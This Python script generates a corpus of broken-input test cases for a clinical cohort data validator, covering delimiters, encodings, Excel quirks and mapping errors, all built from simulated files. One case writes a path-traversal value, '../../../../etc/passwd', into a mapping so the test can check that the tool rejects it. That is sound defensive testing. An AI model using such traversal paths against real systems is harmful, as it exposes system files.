"""Regenerate the broken-input corpus from the SIMULATED demo files (deterministic).

Run from the project folder: python tests/corpus/make_corpus.py
Each case folder holds one centre file and its mapping (or, for configuration cases, a study
config); the specification of every case (exit status, rule, message fragments, rows and
quarantined rows) is written beside them to tests/corpus/cases.yaml, from the SPECS below, so
that the intended message sits next to the code that breaks the file.
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import yaml
from openpyxl import load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import PatternFill

ROOT = Path(__file__).resolve().parents[2]
# where the corpus is written: this folder, or the folder given as the one argument (the
# reproducibility test regenerates it there, leaving the committed files alone)
HERE = Path(sys.argv[1]).resolve() if len(sys.argv) > 1 else Path(__file__).resolve().parent
N = 12  # data rows kept per case
SPECS: dict[str, dict] = {}


def spec(name: str, exit: int, rule: str | None, messages: list[str], **extra) -> None:
    """Register what ``her2cohort check`` must say for this case (see cases.yaml header)."""
    SPECS[name] = {"exit": exit, **({"rule": rule} if rule else {}), "messages": messages,
                   **extra}


def js01_lines() -> list[str]:
    text = (ROOT / "data/demo/raw/JS01_SIMULATED_neoadjuvant_her2.csv").read_text("utf-8-sig")
    return text.splitlines()[: N + 1]


def js04_lines() -> list[str]:
    text = (ROOT / "data/demo/raw/JS04_SIMULATED_registry.tsv").read_text("utf-8")
    return text.splitlines()[: N + 1]


def base_mapping(base: str) -> dict:
    return yaml.safe_load((ROOT / "config/centres" / f"{base}.yaml").read_text("utf-8"))


def mapping(name: str, base: str, filename: str, allow: bool = True, **changes) -> None:
    m = base_mapping(base)
    m["file"] = f"tests/corpus/{name}/{filename}"
    if allow:  # the corpus lives outside data/: say so explicitly, as a user would
        m["allow_outside_data_dirs"] = True
    for k, v in changes.items():
        if v is None:
            m.pop(k, None)
        else:
            m[k] = v
    write_mapping(name, m)


def write_mapping(name: str, m: dict, fname: str = "centre.yaml") -> None:
    (HERE / name / fname).write_text(
        f"# broken-input case '{name}' (SIMULATED data)\n"
        + yaml.safe_dump(m, allow_unicode=True, sort_keys=False), "utf-8")


def case(name: str) -> Path:
    d = HERE / name
    if d.exists():
        shutil.rmtree(d)
    d.mkdir(parents=True)
    return d


def write(d: Path, lines: list[str], enc: str = "utf-8", name: str = "data.csv",
          end: str = "\r\n") -> None:
    (d / name).write_bytes((end.join(lines) + end).encode(enc))


def split(lines: list[str], sep: str = ";") -> list[list[str]]:
    return [ln.split(sep) for ln in lines]


def join(rows: list[list[str]], sep: str = ";") -> list[str]:
    return [sep.join(r) for r in rows]


def with_comment(lines: list[str], sep: str = ";") -> list[list[str]]:
    """JS01 rows with a free-text 'Comment' column at the end (unmapped, as in many exports)."""
    rows = split(lines, sep)
    rows[0].append("Comment")
    for r in rows[1:]:
        r.append("")
    return rows


def js05_book(keep_readme: bool = True):
    wb = load_workbook(ROOT / "data/demo/raw/JS05_SIMULATED_database.xlsx")
    ws = wb["data"]
    ws.delete_rows(N + 2, ws.max_row)
    if not keep_readme:
        del wb["README"]
    return wb, ws


def save(wb, path: Path) -> None:
    """Save a workbook byte for byte reproducibly: fixed zip timestamps and document dates."""
    import io
    import re
    import zipfile

    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2025-01-01T00:00:00Z", data)
            zi = zipfile.ZipInfo(info.filename, date_time=(2025, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(zi, data)
    path.write_bytes(out.getvalue())


def col_of(ws, name: str) -> int:
    return next(c.column for c in ws[1] if c.value == name)


# --------------------------------------------------------------------------------------------
def original_cases(lines, header) -> None:
    d = case("wrong_delimiter")  # file written with commas, mapping says ';'
    write(d, [ln.replace(",", ".").replace(";", ",") for ln in lines])
    mapping("wrong_delimiter", "JS01", "data.csv")
    spec("wrong_delimiter", 1, "file_parse",
         ["row 1", "the header has no ';' delimiter", "looks ','-separated", "set 'delimiter:'"])

    d = case("unknown_code")  # 'B' for bilateral has no mapping
    rows = split(lines)
    rows[4][header.index("Side")] = "B"
    rows[9][header.index("Histology")] = "mucinous"
    write(d, join(rows))
    mapping("unknown_code", "JS01", "data.csv")
    spec("unknown_code", 1, "unknown_code",
         ["row 5, column 'Side', value 'B'", "no mapping for 'laterality'",
          "row 10, column 'Histology', value 'mucinous'"])

    d = case("missing_column")  # the cN column was dropped from the export
    cn = header.index("cN")
    write(d, [";".join(c for i, c in enumerate(ln.split(";")) if i != cn) for ln in lines])
    mapping("missing_column", "JS01", "data.csv")
    spec("missing_column", 1, "column_missing", ["expected column 'cN'", "is not in the header"])

    d = case("swapped_day_month")  # exported as month/day/year, mapping says day/month/year
    rows = split(lines)
    date_cols = [header.index(c) for c in ("Date of birth", "Diagnosis date", "NAT start",
                                           "Surgery date", "Last follow-up")]
    for r in rows[1:]:
        for c in date_cols:
            if r[c]:
                dd, mm, yy = r[c].split("/")
                r[c] = f"{mm}/{dd}/{yy}"
    write(d, join(rows))
    mapping("swapped_day_month", "JS01", "data.csv")
    spec("swapped_day_month", 1, "bad_date",
         ["row 2, column 'Date of birth', value [shape: dd/dd/dddd]",
          "'dd/dd/dddd' is not a real date for 'birth_date' (month 14?)",
          "expected a date like 31/12/2019", "day and month swapped"])

    d = case("impossible_dates")  # surgery before diagnosis, last contact before surgery
    rows = split(lines)
    rows[3][header.index("Surgery date")] = "01/01/2010"
    rows[6][header.index("Last follow-up")] = rows[6][header.index("NAT start")]
    write(d, join(rows))
    mapping("impossible_dates", "JS01", "data.csv")
    spec("impossible_dates", 0, "date_order",
         ["row 4, column 'Surgery date'", "days before start of neoadjuvant therapy",
          "row 7, column 'Last follow-up'", "days before surgery"], rows=12, quarantined=2)

    d = case("duplicate_patient")  # row 5 exported twice
    write(d, lines + [lines[4]])
    mapping("duplicate_patient", "JS01", "data.csv")
    spec("duplicate_patient", 0, "duplicate_id",
         ["row 14, column 'Patient ID'", "the same patient ID as", "row 5, which is kept"],
         rows=13, quarantined=1)

    d = case("empty_file")
    (d / "data.csv").write_bytes(b"")
    mapping("empty_file", "JS01", "data.csv")
    spec("empty_file", 1, "file_empty", ["the file is empty"])

    d = case("wrong_sheet")  # mapping names a sheet that is not in the workbook
    wb, _ = js05_book()
    save(wb, d / "data.xlsx")
    mapping("wrong_sheet", "JS05", "data.xlsx", sheet="Sheet1")
    spec("wrong_sheet", 1, "sheet_missing",
         ["no sheet named 'Sheet1'", "the workbook has 'README', 'data'"])

    d = case("non_utf8")  # a GBK export read as UTF-8
    gbk = (ROOT / "data/demo/raw/JS03_SIMULATED_gbk.csv").read_bytes().split(b"\r\n")[: N + 1]
    (d / "data.csv").write_bytes(b"\r\n".join(gbk) + b"\r\n")
    mapping("non_utf8", "JS03", "data.csv", encoding="utf-8")
    spec("non_utf8", 1, "file_encoding",
         ["cannot be decoded as 'utf-8'", "in row 1, column", "gbk (Chinese Windows text)",
          "set 'encoding:'"])

    d = case("bad_number")  # decimal point in a decimal-comma file, text in a number column
    rows = split(lines)
    rows[2][header.index("Ki67 %")] = "about 30"
    rows[5][header.index("Tumour size (mm)")] = "25.5"
    write(d, join(rows))
    mapping("bad_number", "JS01", "data.csv")
    spec("bad_number", 1, "bad_number",
         ["row 3, column 'Ki67 %', value 'about 30'",
          "row 6, column 'Tumour size (mm)', value '25.5'", "decimal mark ','"])

    d = case("missing_value")  # a record without a diagnosis date
    rows = split(lines)
    rows[8][header.index("Diagnosis date")] = ""
    write(d, join(rows))
    mapping("missing_value", "JS01", "data.csv")
    spec("missing_value", 0, "missing_value",
         ["row 9, column 'Diagnosis date'", "Date of histological diagnosis is missing"],
         rows=12, quarantined=1)


# --------------------------------------------------------------------------------------------
def row_loss_cases(lines) -> None:
    """Silent row loss: quotes, multi-line cells, huge cells."""
    big_lines = (ROOT / "data/demo/raw/JS01_SIMULATED_neoadjuvant_her2.csv") \
        .read_text("utf-8-sig").splitlines()[:41]

    d = case("unclosed_quote_eof")  # a comment opens a quote that is never closed
    rows = with_comment(big_lines)
    rows[5][-1] = '"see report from 12/2013'
    write(d, join(rows))
    mapping("unclosed_quote_eof", "JS01", "data.csv")
    spec("unclosed_quote_eof", 1, "unclosed_quote",
         ["a quote opened in row 6 (line 6 of the file), column 'Comment', is never closed",
          "35 following lines were read into this cell"])

    d = case("unclosed_quote_closed_later")  # closed by another comment's quote: counts match
    rows = with_comment(big_lines)
    rows[10][-1] = '"biopsy repeated'
    rows[30][-1] = 'patient says "ok"'
    write(d, join(rows))
    mapping("unclosed_quote_closed_later", "JS01", "data.csv")
    spec("unclosed_quote_closed_later", 1, "unclosed_quote",
         ["quote opened in row 11 (line 11 of the file), column 'Comment'",
          "20 following lines were read into this cell", "look like data rows"])

    d = case("multiline_comment_ok")  # a real multi-line comment: kept, row count unchanged
    rows = with_comment(lines)
    rows[3][-1] = '"first line\nsecond line\nthird line"'
    write(d, join(rows))
    mapping("multiline_comment_ok", "JS01", "data.csv")
    spec("multiline_comment_ok", 0, "column_unmapped", ["column 'Comment'", "is ignored"],
         rows=12, quarantined=0)

    d = case("quoted_delimiter_ok")  # delimiters and quotes inside a properly quoted cell
    rows = with_comment(lines)
    rows[2][-1] = '"size 2;5 cm; ""re-check"""'
    write(d, join(rows))
    mapping("quoted_delimiter_ok", "JS01", "data.csv")
    spec("quoted_delimiter_ok", 0, "column_unmapped", ["column 'Comment'"], rows=12,
         quarantined=0)

    d = case("huge_cell")  # a pasted pathology report of 200 KB
    rows = with_comment(lines)
    rows[4][-1] = "Microscopy: invasive carcinoma. " * 6400
    write(d, join(rows))
    mapping("huge_cell", "JS01", "data.csv")
    spec("huge_cell", 0, "cell_large", ["row 5, column 'Comment'", "KB accepted as text"],
         rows=12, quarantined=0)

    d = case("huge_cell_unclosed")  # the huge cell also opens a quote that is never closed
    rows = with_comment(lines)
    rows[2][-1] = '"' + "Pathology report text. " * 8000
    write(d, join(rows))
    mapping("huge_cell_unclosed", "JS01", "data.csv")
    spec("huge_cell_unclosed", 1, "unclosed_quote",
         ["quote opened in row 3", "column 'Comment', is never closed"])

    d = case("tsv_unclosed_quote")  # the same in a tab-separated registry extract
    rows = split(js04_lines(), "\t")
    rows[0].append("NOTE")
    for r in rows[1:]:
        r.append("")
    rows[4][-1] = '"to be confirmed'
    rows[9][-1] = 'confirmed "yes"'
    write(d, join(rows, "\t"), end="\n", name="data.tsv")
    mapping("tsv_unclosed_quote", "JS04", "data.tsv")
    spec("tsv_unclosed_quote", 1, "unclosed_quote",
         ["quote opened in row 5", "column 'NOTE'", "5 following lines"])

    d = case("tsv_ok")
    write(d, js04_lines(), end="\n", name="data.tsv")
    mapping("tsv_ok", "JS04", "data.tsv")
    spec("tsv_ok", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("tsv_read_as_csv")  # mapping says ',' for a tab-separated file
    write(d, js04_lines(), end="\n", name="data.tsv")
    mapping("tsv_read_as_csv", "JS04", "data.tsv", delimiter=",")
    spec("tsv_read_as_csv", 1, "file_parse", ["the header has no ',' delimiter",
                                              "looks '\\t'-separated"])

    d = case("short_row")  # a row that lost cells
    rows = split(lines)
    rows[6] = rows[6][:20]
    write(d, join(rows))
    mapping("short_row", "JS01", "data.csv")
    spec("short_row", 1, "file_parse", ["row 7", "row has 20 cells, the header has 33"])

    d = case("shifted_row_no_leak")  # a stray delimiter shifts a row; its dates must not leak
    rows = split(lines)
    rows[4].insert(1, "x")
    write(d, join(rows))
    mapping("shifted_row_no_leak", "JS01", "data.csv")
    spec("shifted_row_no_leak", 1, "file_parse",
         ["row 5", "row has 34 cells, the header has 33"])


# --------------------------------------------------------------------------------------------
def excel_cases() -> None:
    d = case("xlsx_ok")
    wb, _ = js05_book()
    save(wb, d / "data.xlsx")
    mapping("xlsx_ok", "JS05", "data.xlsx")
    spec("xlsx_ok", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("xlsx_formula_no_value")  # written by a script: formulas have no stored result
    wb, ws = js05_book()
    ws.cell(4, col_of(ws, "ER")).value = "=10*5"
    ws.cell(7, col_of(ws, "Ki67")).value = "=SUM(5,10)"
    save(wb, d / "data.xlsx")
    mapping("xlsx_formula_no_value", "JS05", "data.xlsx")
    spec("xlsx_formula_no_value", 1, "formula_no_value",
         ["row 4, column 'ER'", "row 7, column 'Ki67'", "formula without a stored result"])

    d = case("xlsx_merged_cells")  # the same regimen merged over three rows
    wb, ws = js05_book()
    c = col_of(ws, "NAT")
    ws.merge_cells(start_row=3, start_column=c, end_row=5, end_column=c)
    save(wb, d / "data.xlsx")
    mapping("xlsx_merged_cells", "JS05", "data.xlsx")
    spec("xlsx_merged_cells", 1, "merged_cells",
         ["row 3, column 'NAT'", "merged cells (rows 3-5)", "only the first cell holds the value"])

    d = case("xls_old_format")  # Excel 97-2003 (OLE2) file
    (d / "data.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    mapping("xls_old_format", "JS05", "data.xls")
    spec("xls_old_format", 1, "file_parse", ["old Excel 97-2003 workbook (.xls)",
                                             "save it as .xlsx"])

    d = case("xlsx_named_csv")  # a workbook saved under a .csv name
    wb, _ = js05_book()
    save(wb, d / "data.csv")
    mapping("xlsx_named_csv", "JS01", "data.csv")
    spec("xlsx_named_csv", 1, "file_parse",
         ["the file is an Excel workbook (.xlsx) although the mapping says 'format: csv'"])

    d = case("csv_named_xlsx")  # a CSV saved under an .xlsx name
    write(d, js01_lines(), name="data.xlsx")
    mapping("csv_named_xlsx", "JS05", "data.xlsx")
    spec("csv_named_xlsx", 1, "file_parse",
         ["the file is a text file (CSV or TSV), not an .xlsx workbook", "set 'format: csv'"])

    d = case("xlsx_chart_first")  # the first sheet is a chart; the mapping names no sheet
    wb, ws = js05_book(keep_readme=False)
    cs = wb.create_chartsheet("Chart1", 0)
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=col_of(ws, "ER"), min_row=1, max_row=N + 1),
                   titles_from_data=True)
    cs.add_chart(chart)
    save(wb, d / "data.xlsx")
    mapping("xlsx_chart_first", "JS05", "data.xlsx", sheet=None)
    spec("xlsx_chart_first", 0, "sheet_chart",
         ["the first sheet 'Chart1' is a chart", "the first worksheet 'data' is read"],
         rows=12, quarantined=None)

    d = case("xlsx_chart_named")  # the mapping names the chart sheet
    save(wb, d / "data.xlsx")
    mapping("xlsx_chart_named", "JS05", "data.xlsx", sheet="Chart1")
    spec("xlsx_chart_named", 1, "sheet_missing", ["sheet 'Chart1' is a chart, not a table"])

    d = case("xlsx_hidden_first_sheet")  # an old hidden copy comes first; no sheet named
    wb, ws = js05_book(keep_readme=False)
    old = wb.copy_worksheet(ws)
    old.title = "old"
    old.sheet_state = "hidden"
    wb.move_sheet("old", offset=-1)
    save(wb, d / "data.xlsx")
    mapping("xlsx_hidden_first_sheet", "JS05", "data.xlsx", sheet=None)
    spec("xlsx_hidden_first_sheet", 1, "sheet_hidden",
         ["the first sheet 'old' is hidden and would be read by default",
          "the visible sheet(s): 'data'"])

    d = case("xlsx_split_sheets")  # rows 8-12 moved to a second sheet with the same header
    wb, ws = js05_book()
    ws2 = wb.create_sheet("data (2)")
    ws2.append([c.value for c in ws[1]])
    for r in range(9, N + 2):
        ws2.append([c.value for c in ws[r]])
    ws.delete_rows(9, N + 1)
    save(wb, d / "data.xlsx")
    mapping("xlsx_split_sheets", "JS05", "data.xlsx")
    spec("xlsx_split_sheets", 1, "sheet_split",
         [("sheet 'data (2)' has the same header as sheet 'data' and 5 data row(s) that are "
          "not read"), "records split over two sheets"])

    d = case("xlsx_trailing_format_rows")  # 3000 formatted but empty rows after the data
    wb, ws = js05_book()
    fill = PatternFill("solid", fgColor="FFFF00")
    for r in range(N + 2, N + 3002):
        ws.cell(r, 1).fill = fill
        ws.cell(r, 2).value = ""
    save(wb, d / "data.xlsx")
    mapping("xlsx_trailing_format_rows", "JS05", "data.xlsx")
    spec("xlsx_trailing_format_rows", 0, "blank_row",
         ["3000 empty row(s) after the last record (row 13) ignored", "1 x blank_row [warn]"],
         rows=12, quarantined=None)

    d = case("xlsx_trailing_unnamed_columns")  # formatted empty columns right of the table
    wb, ws = js05_book()
    for r in range(1, N + 2):
        ws.cell(r, 40).value = ""
        ws.cell(r, 41).fill = fill
    save(wb, d / "data.xlsx")
    mapping("xlsx_trailing_unnamed_columns", "JS05", "data.xlsx")
    spec("xlsx_trailing_unnamed_columns", 0, None, ["12 records read"], rows=12,
         quarantined=None)

    d = case("xlsx_datetime_cells")  # date cells that carry a time of day
    wb, ws = js05_book()
    import datetime as dt
    for r in range(2, N + 2):
        c = ws.cell(r, col_of(ws, "date_dx"))
        if isinstance(c.value, dt.datetime):
            c.value = c.value.replace(hour=14, minute=30)
            c.number_format = "yyyy-mm-dd hh:mm"
    save(wb, d / "data.xlsx")
    mapping("xlsx_datetime_cells", "JS05", "data.xlsx")
    spec("xlsx_datetime_cells", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("xlsx_title_row")  # a title line above the header (birth dates must not leak)
    wb, ws = js05_book()
    ws.insert_rows(1)
    ws.cell(1, 1).value = "Neoadjuvant HER2 cohort, export of 2024"
    save(wb, d / "data.xlsx")
    mapping("xlsx_title_row", "JS05", "data.xlsx")
    spec("xlsx_title_row", 1, "header",
         ["the header seems to be on row 2, not row 1", "set 'header_row: 2'"])

    d = case("xlsx_title_row_fixed")  # ... and the fix: header_row: 2
    save(wb, d / "data.xlsx")
    mapping("xlsx_title_row_fixed", "JS05", "data.xlsx", header_row=2)
    spec("xlsx_title_row_fixed", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("xlsx_group_header")  # merged group headers above the real header
    wb, ws = js05_book()
    ws.insert_rows(1)
    ws.cell(1, 1).value = "Patient"
    ws.cell(1, 9).value = "Tumour"
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=8)
    ws.merge_cells(start_row=1, start_column=9, end_row=1, end_column=20)
    save(wb, d / "data.xlsx")
    mapping("xlsx_group_header", "JS05", "data.xlsx")
    spec("xlsx_group_header", 1, "header", ["the header seems to be on row 2, not row 1"])

    d = case("xlsx_no_header")  # the header row was deleted
    wb, ws = js05_book()
    ws.delete_rows(1)
    save(wb, d / "data.xlsx")
    mapping("xlsx_no_header", "JS05", "data.xlsx")
    spec("xlsx_no_header", 1, "header", ["no header found", "may have no header row"])

    d = case("xlsx_header_linebreak")  # line breaks typed inside header cells
    wb, ws = js05_book()
    ws.cell(1, col_of(ws, "date_dx")).value = "date\n_dx"
    save(wb, d / "data.xlsx")
    m = base_mapping("JS05")
    mapping("xlsx_header_linebreak", "JS05", "data.xlsx",
            columns={**m["columns"], "diagnosis_date": "date _dx"})
    spec("xlsx_header_linebreak", 0, "header_linebreak", ["header cells contain line breaks"],
         rows=12, quarantined=None)

    d = case("xlsx_shifted_value")  # a value beyond the header columns
    wb, ws = js05_book()
    ws.cell(6, 36).value = "12/03/1961"
    save(wb, d / "data.xlsx")
    mapping("xlsx_shifted_value", "JS05", "data.xlsx")
    spec("xlsx_shifted_value", 1, "file_parse",
         ["row 6", "value in column 36, beyond the 34 header columns", "a shifted row"])

    d = case("xlsx_damaged")  # a truncated workbook
    wb, _ = js05_book()
    save(wb, d / "full.xlsx")
    (d / "data.xlsx").write_bytes((d / "full.xlsx").read_bytes()[:2000])
    (d / "full.xlsx").unlink()
    mapping("xlsx_damaged", "JS05", "data.xlsx")
    spec("xlsx_damaged", 1, "file_parse", ["not a readable .xlsx workbook"])


# --------------------------------------------------------------------------------------------
def csv_header_cases(lines, header) -> None:
    d = case("csv_sep_line")  # Excel's "sep=;" hint above the header
    write(d, ["sep=;"] + lines)
    mapping("csv_sep_line", "JS01", "data.csv")
    spec("csv_sep_line", 1, "header",
         ["the header seems to be on row 2, not row 1", "Excel's delimiter hint 'sep=;'",
          "set 'header_row: 2'"])

    d = case("csv_sep_line_fixed")
    write(d, ["sep=;"] + lines)
    mapping("csv_sep_line_fixed", "JS01", "data.csv", header_row=2)
    spec("csv_sep_line_fixed", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("csv_title_line")  # a report title and a blank line above the header
    write(d, ["Breast cancer registry export;;;", ";;;"] + lines)
    mapping("csv_title_line", "JS01", "data.csv")
    spec("csv_title_line", 1, "header",
         ["the header seems to be on row 3, not row 1", "a title line", "'header_row: 3'"])

    d = case("csv_no_header")
    write(d, lines[1:])
    mapping("csv_no_header", "JS01", "data.csv")
    spec("csv_no_header", 1, "header", ["no header found"])

    d = case("csv_header_linebreak")  # a quoted header cell with a line break
    rows = split(lines)
    rows[0][header.index("Date of birth")] = '"Date of\nbirth"'
    write(d, join(rows))
    mapping("csv_header_linebreak", "JS01", "data.csv")
    spec("csv_header_linebreak", 0, "header_linebreak", ["header cells contain line breaks"],
         rows=12, quarantined=None)

    d = case("csv_trailing_delimiters")  # every line ends with ';;;' (empty unnamed columns)
    write(d, [ln + ";;;" for ln in lines])
    mapping("csv_trailing_delimiters", "JS01", "data.csv")
    spec("csv_trailing_delimiters", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("csv_trailing_blank_lines")  # 500 empty ';;;' lines after the data
    write(d, lines + [";" * 32] * 500)
    mapping("csv_trailing_blank_lines", "JS01", "data.csv")
    spec("csv_trailing_blank_lines", 0, "blank_row",
         ["500 empty row(s) after the last record", "1 x blank_row [warn]"], rows=12,
         quarantined=None)

    d = case("id_scientific")  # IDs mangled by Excel into scientific notation
    rows = split(lines)
    for k, r in enumerate(rows[1:], start=1):
        r[0] = "2.00147E+09" if k % 2 else f"20014{k:05d}"
    write(d, join(rows))
    mapping("id_scientific", "JS01", "data.csv")
    spec("id_scientific", 1, "id_mangled",
         ["row 2, column 'Patient ID'", "6 x id_mangled", "scientific notation",
          "export the ID column as text"])

    d = case("serial_datetime")  # Excel serial day numbers with a time part
    rows = split(js04_lines(), "\t")
    hdr = rows[0]
    base = __import__("datetime").date(1899, 12, 30)
    import datetime as dt
    for r in rows[1:]:
        for c in ("DOB", "DX_DATE", "NACT_START", "SURG_DATE", "LAST_FU", "REC_DATE", "DOD"):
            v = r[hdr.index(c)]
            if v not in ("-", ""):
                days = (dt.datetime.strptime(v, "%Y/%m/%d").date() - base).days
                r[hdr.index(c)] = f"{days}.{'5' if c == 'DX_DATE' else '0'}"
    write(d, join(rows, "\t"), end="\n", name="data.tsv")
    mapping("serial_datetime", "JS04", "data.tsv", date_format="excel_serial")
    spec("serial_datetime", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("death_before_diagnosis")
    rows = split(lines)
    r = rows[3]
    r[header.index("Death date")] = "01/01/2012"
    r[header.index("Status")] = "deceased"
    write(d, join(rows))
    mapping("death_before_diagnosis", "JS01", "data.csv")
    spec("death_before_diagnosis", 0, "date_order",
         ["row 4, column 'Death date', value [shape: dddd-dd-dd]", "death is",
          "days before diagnosis"],
         rows=12, quarantined=1)


# --------------------------------------------------------------------------------------------
def encoding_cases(lines, header) -> None:
    d = case("utf16_bom")  # Excel "Unicode text": UTF-16 with FF FE
    write(d, lines, enc="utf-16")
    mapping("utf16_bom", "JS01", "data.csv")
    spec("utf16_bom", 1, "file_encoding",
         ["the file is UTF-16 text (it starts with the byte-order mark FF FE)",
          "set 'encoding: utf-16'"])

    d = case("utf16_ok")
    write(d, lines, enc="utf-16")
    mapping("utf16_ok", "JS01", "data.csv", encoding="utf-16")
    spec("utf16_ok", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("cp1252_read_as_utf8")  # Western European Windows text
    rows = with_comment(lines)
    rows[5][-1] = "Réévaluation après chimiothérapie"
    write(d, join(rows), enc="cp1252")
    mapping("cp1252_read_as_utf8", "JS01", "data.csv")
    spec("cp1252_read_as_utf8", 1, "file_encoding",
         ["byte 0xe9 in row 6, column 'Comment'", "cp1252 (Western European"])

    d = case("cp1252_ok")
    write(d, join(rows), enc="cp1252")
    mapping("cp1252_ok", "JS01", "data.csv", encoding="cp1252")
    spec("cp1252_ok", 0, None, ["12 records read"], rows=12, quarantined=None)

    gbk = (ROOT / "data/demo/raw/JS03_SIMULATED_gbk.csv").read_bytes().split(b"\r\n")[: N + 1]
    d = case("gbk_behind_utf8_bom")  # a badly converted file: UTF-8 BOM, GBK text
    (d / "data.csv").write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(gbk) + b"\r\n")
    mapping("gbk_behind_utf8_bom", "JS03", "data.csv", encoding="utf-8-sig")
    spec("gbk_behind_utf8_bom", 1, "file_encoding",
         ["UTF-8 byte-order mark but the text behind it is GBK", "set 'encoding: gbk'"])

    d = case("gbk_behind_utf8_bom_fixed")
    (d / "data.csv").write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(gbk) + b"\r\n")
    mapping("gbk_behind_utf8_bom_fixed", "JS03", "data.csv", encoding="gbk")
    spec("gbk_behind_utf8_bom_fixed", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("bad_byte_in_cell")  # one bad byte in a UTF-8 file: row and column, not offset
    rows = split(lines)
    rows[7][header.index("Histology")] = "ID#"
    data = "\r\n".join(join(rows)).encode("utf-8").replace(b";ID#;", b";ID\xff;")
    (d / "data.csv").write_bytes(data + b"\r\n")
    mapping("bad_byte_in_cell", "JS01", "data.csv", encoding="utf-8")
    spec("bad_byte_in_cell", 1, "file_encoding", ["byte 0xff in row 8, column 'Histology'"])

    d = case("unknown_encoding")
    write(d, lines)
    mapping("unknown_encoding", "JS01", "data.csv", encoding="utf8x")
    spec("unknown_encoding", 2, None, ["configuration error", "unknown encoding 'utf8x'"])

    # invisible characters
    d = case("invisible_zero_width")  # 'L' + zero-width space, 'R' + no-break space
    rows = split(lines)
    rows[2][header.index("Side")] += "\u200b"
    rows[3][header.index("Side")] += "\u00a0"
    rows[4][header.index("Regimen")] = "\ufeff" + rows[4][header.index("Regimen")]
    write(d, join(rows))
    mapping("invisible_zero_width", "JS01", "data.csv")
    spec("invisible_zero_width", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("invisible_nul")  # NUL bytes inside cells
    rows = split(lines)
    rows[5][header.index("Histology")] += "\x00"
    write(d, join(rows))
    mapping("invisible_nul", "JS01", "data.csv")
    spec("invisible_nul", 0, None, ["12 records read"], rows=12, quarantined=None)

    d = case("invisible_shown_escaped")  # a left-to-right mark is kept and shown escaped
    rows = split(lines)
    rows[6][header.index("Side")] = "B\u200e"
    write(d, join(rows))
    mapping("invisible_shown_escaped", "JS01", "data.csv")
    spec("invisible_shown_escaped", 1, "unknown_code", ["row 7, column 'Side', value 'B\\u200e'"])

    d = case("decomposed_accents")  # NFD text matches an NFC mapping key
    rows = split(lines)
    side = header.index("Side")
    for r in rows[1:]:
        r[side] = {"L": "va\u0308nster", "R": "ho\u0308ger"}[r[side]]
    write(d, join(rows))
    mapping("decomposed_accents", "JS01", "data.csv",
            values={**base_mapping("JS01")["values"],
                    "laterality": {"v\u00e4nster": "left", "h\u00f6ger": "right"}})
    spec("decomposed_accents", 0, None, ["12 records read"], rows=12, quarantined=None)


# --------------------------------------------------------------------------------------------
def mapping_cases(lines) -> None:
    d = case("yaml_boolean_keys")  # unquoted no:/yes: read by YAML as booleans
    wb, _ = js05_book()
    save(wb, d / "data.xlsx")
    mapping("yaml_boolean_keys", "JS05", "data.xlsx")
    text = (d / "centre.yaml").read_text("utf-8")
    assert "'no': pre" in text and "'yes': post" in text
    text = text.replace("'no': pre", "no: pre").replace("'yes': post", "yes: post")
    (d / "centre.yaml").write_text(text, "utf-8")
    spec("yaml_boolean_keys", 2, None,
         ["values: menopausal_status: the key False is a YAML boolean", "quote it, e.g. 'no'"])

    d = case("target_not_canonical")  # L: links
    write(d, lines)
    mapping("target_not_canonical", "JS01", "data.csv",
            values={**base_mapping("JS01")["values"], "laterality": {"L": "links", "R": "right"}})
    spec("target_not_canonical", 2, None,
         ["values: laterality: 'L' -> 'links'", "is not a canonical 'laterality' value",
          "allowed: left, right"])

    d = case("date_format_human")  # dd/mm/yyyy instead of %d/%m/%Y
    write(d, lines)
    mapping("date_format_human", "JS01", "data.csv", date_format="dd/mm/yyyy")
    spec("date_format_human", 2, None, ["date_format: 'dd/mm/yyyy' is not a strftime pattern",
                                        "write it as '%d/%m/%Y'"])

    d = case("required_field_unmapped")  # vital_status not mapped at all
    write(d, lines)
    cols = dict(base_mapping("JS01")["columns"])
    cols.pop("vital_status")
    mapping("required_field_unmapped", "JS01", "data.csv", columns=cols)
    spec("required_field_unmapped", 2, None,
         [("the enabled analyses need facts this mapping neither maps nor declares not "
          "recorded"), "'vital_status'"])

    d = case("file_is_folder")
    (d / "export").mkdir()
    (d / "export" / "a.csv").write_text("x\n", "utf-8")
    mapping("file_is_folder", "JS01", "export")
    spec("file_is_folder", 2, None, ["names a folder, not a file", "it holds a.csv"])

    d = case("path_traversal")  # file: ../../../../etc/passwd, nothing allows it
    mapping("path_traversal", "JS01", "../../../../etc/passwd", allow=False)
    m = yaml.safe_load((d / "centre.yaml").read_text("utf-8"))
    m["file"] = "../../../../etc/passwd"
    write_mapping("path_traversal", m)
    spec("path_traversal", 2, None, ["resolves outside the allowed data folder(s) (data/)",
                                     "allow_outside_data_dirs: true"], forbid=["root:"])

    d = case("outside_data_dirs")  # a corpus file without the explicit allowance
    write(d, lines)
    mapping("outside_data_dirs", "JS01", "data.csv", allow=False)
    spec("outside_data_dirs", 2, None, ["resolves outside the allowed data folder(s)"])

    d = case("invalid_yaml")
    (d / "centre.yaml").write_text("centre: JS01\ncolumns: {patient_id: [\n", "utf-8")
